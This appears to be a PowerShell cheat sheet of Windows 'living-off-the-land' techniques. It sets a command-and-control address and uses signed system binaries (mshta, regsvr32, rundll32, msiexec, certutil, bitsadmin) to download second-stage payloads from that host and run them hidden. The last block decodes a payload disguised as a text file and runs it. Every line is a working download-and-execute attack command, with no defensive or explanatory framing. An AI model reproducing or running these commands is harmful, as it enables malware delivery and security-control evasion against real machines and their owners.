# Signed-binary proxies that fetch the second stage for us.
$c2 = 'http://198.51.100.31'

mshta.exe "$c2/update.hta"
mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -c iex(iwr http://198.51.100.31/a.ps1)"",0:close")
regsvr32.exe /s /n /u /i:http://198.51.100.31/file.sct scrobj.dll
rundll32.exe 'javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.31/r.sct")'
msiexec /q /i http://198.51.100.31/agent.msi

# certutil as a downloader, then run what it fetched
certutil.exe -urlcache -split -f "$c2/beacon.exe" "$env:TEMP\beacon.exe"
Start-Process -FilePath "$env:TEMP\beacon.exe" -WindowStyle Hidden

# BITS
bitsadmin /transfer winupd /download /priority high "$c2/svc.exe" "$env:PUBLIC\svc.exe"
& "$env:PUBLIC\svc.exe"

# certutil also decodes: payload arrives as a harmless-looking .txt
certutil -decode "$env:TEMP\readme.txt" "$env:TEMP\r.dll"
rundll32.exe "$env:TEMP\r.dll",DllMain
